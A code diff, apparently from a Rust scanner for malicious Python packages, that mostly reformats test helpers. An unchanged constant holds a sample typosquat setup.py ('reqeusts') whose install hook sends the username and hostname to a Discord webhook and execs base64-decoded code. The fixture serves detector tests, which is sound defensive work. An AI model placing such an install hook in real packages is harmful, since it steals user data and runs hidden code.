@@ -118,21 +118,12 @@ pub(crate) mod testutil {
             return vec![];
         }
         let is_python = path.ends_with(".py") || path.ends_with(".pyw") || path.ends_with(".pyi");
-        let file = TextFile {
-            path,
-            role,
-            is_python,
-            text,
-        };
+        let file = TextFile { path, role, is_python, text };
         let mut hits = Hits::default();
         d.scan_text(&file, &mut hits);
         let got = flatten(&hits);
         for g in &got {
-            assert!(
-                d.all_meta().iter().any(|m| m.id == g.id),
-                "unregistered id {}",
-                g.id
-            );
+            assert!(d.all_meta().iter().any(|m| m.id == g.id), "unregistered id {}", g.id);
         }
         got
     }
@@ -146,14 +137,7 @@ pub(crate) mod testutil {
         core_metadata: Option<&str>,
         members: &[(String, FileRole, u64)],
     ) -> Vec<Got> {
-        let pkg = Package {
-            filename,
-            project,
-            version: Some("1.0"),
-            kind,
-            core_metadata,
-            members,
-        };
+        let pkg = Package { filename, project, version: Some("1.0"), kind, core_metadata, members };
         let mut hits = Hits::default();
         d.scan_package(&pkg, &mut hits);
         flatten(&hits)
@@ -168,21 +152,13 @@ pub(crate) mod testutil {
         for (name, path, role, text, want) in cases {
             let got = scan(d, path, *role, text);
             match want {
-                None => assert!(
-                    got.is_empty(),
-                    "case {name:?}: expected no hit, got {got:#?}"
-                ),
+                None => assert!(got.is_empty(), "case {name:?}: expected no hit, got {got:#?}"),
                 Some((line, ind, sev)) => {
-                    let first = got
-                        .first()
-                        .unwrap_or_else(|| panic!("case {name:?}: expected a hit, got none"));
+                    let first = got.first().unwrap_or_else(|| panic!("case {name:?}: expected a hit, got none"));
                     assert_eq!(first.id, id, "case {name:?}: id");
                     assert_eq!(first.path, *path, "case {name:?}: path");
                     assert_eq!(first.line, Some(*line), "case {name:?}: line ({first:?})");
-                    assert_eq!(
-                        first.indicator, *ind,
-                        "case {name:?}: indicator ({first:?})"
-                    );
+                    assert_eq!(first.indicator, *ind, "case {name:?}: indicator ({first:?})");
                     assert_eq!(first.severity, *sev, "case {name:?}: severity ({first:?})");
                 }
             }
@@ -196,11 +172,7 @@ pub(crate) mod testutil {
         for m in &cat {
             let (cat_part, slug) = m.id.split_once('.').expect("id is category.slug");
             assert_eq!(cat_part, m.category.as_str(), "{} category prefix", m.id);
-            assert!(
-                !slug.is_empty() && slug.bytes().all(|b| b.is_ascii_lowercase() || b == b'-'),
-                "{}",
-                m.id
-            );
+            assert!(!slug.is_empty() && slug.bytes().all(|b| b.is_ascii_lowercase() || b == b'-'), "{}", m.id);
             assert!(m.title.ends_with('.'), "{} title is a report line", m.id);
             assert!(!m.description.is_empty());
         }
@@ -212,10 +184,7 @@ pub(crate) mod testutil {
 
     /// Run every detector over one file, the way the engine does (prefilter first).
     pub fn scan_all(path: &str, role: FileRole, text: &str) -> Vec<Got> {
-        super::all()
-            .iter()
-            .flat_map(|d| scan(d.as_ref(), path, role, text))
-            .collect()
+        super::all().iter().flat_map(|d| scan(d.as_ref(), path, role, text)).collect()
     }
 
     const DROPPER: &str = "import os, base64, socket, getpass, requests\nfrom setuptools import setup\nfrom setuptools.command.install import install\n\nclass Post(install):\n    def run(self):\n        info = {'u': getpass.getuser(), 'h': socket.gethostname()}\n        requests.post('https://discord.com/api/webhooks/1/abc', json=info)\n        exec(base64.b64decode('aW1wb3J0IG9z'))\n        install.run(self)\n\nsetup(name='reqeusts', cmdclass={'install': Post})\n";
@@ -238,9 +207,7 @@ pub(crate) mod testutil {
             ],
             "{got:#?}"
         );
-        assert!(got
-            .iter()
-            .any(|g| g.id == "execution.install-hook" && g.severity == Severity::Critical));
+        assert!(got.iter().any(|g| g.id == "execution.install-hook" && g.severity == Severity::Critical));
     }
 
     #[test]
@@ -301,12 +268,7 @@ pub(crate) mod testutil {
                 want[owner[m.pattern().as_usize()]] = true;
             }
             let is_python = path.ends_with(".py");
-            let file = TextFile {
-                path,
-                role: FileRole::Runtime,
-                is_python,
-                text,
-            };
+            let file = TextFile { path, role: FileRole::Runtime, is_python, text };
             let mut hits = Hits::default();
             for (i, d) in dets.iter().enumerate() {
                 if want[i] {
@@ -327,13 +289,7 @@ pub(crate) mod testutil {
             bytes as f64 / 1e6 / el.as_secs_f64()
         );
         for (i, d) in dets.iter().enumerate() {
-            eprintln!(
-                "{:40} called on {:5} of {} files, {:?}",
-                d.meta().id,
-                calls[i],
-                texts.len(),
-                spent[i]
-            );
+            eprintln!("{:40} called on {:5} of {} files, {:?}", d.meta().id, calls[i], texts.len(), spent[i]);
         }
     }
 
@@ -363,25 +319,15 @@ pub(crate) mod testutil {
                     continue;
                 };
                 let path = p.to_string_lossy().to_string();
-                let role = if super::pysrc::looks_like_test_path(&path) {
-                    FileRole::TestOrDocs
-                } else {
-                    FileRole::Runtime
-                };
+                let role =
+                    if super::pysrc::looks_like_test_path(&path) { FileRole::TestOrDocs } else { FileRole::Runtime };
                 files += 1;
                 bytes += text.len();
                 for g in scan_all(&path, role, &text) {
                     let c = counts.entry(g.id).or_default();
                     *c += 1;
                     if *c <= 5 {
-                        eprintln!(
-                            "{} {}:{} [{}] {}",
-                            g.id,
-                            g.path,
-                            g.line.unwrap_or(0),
-                            g.indicator,
-                            g.snippet
-                        );
+                        eprintln!("{} {}:{} [{}] {}", g.id, g.path, g.line.unwrap_or(0), g.indicator, g.snippet);
                     }
                 }
             }
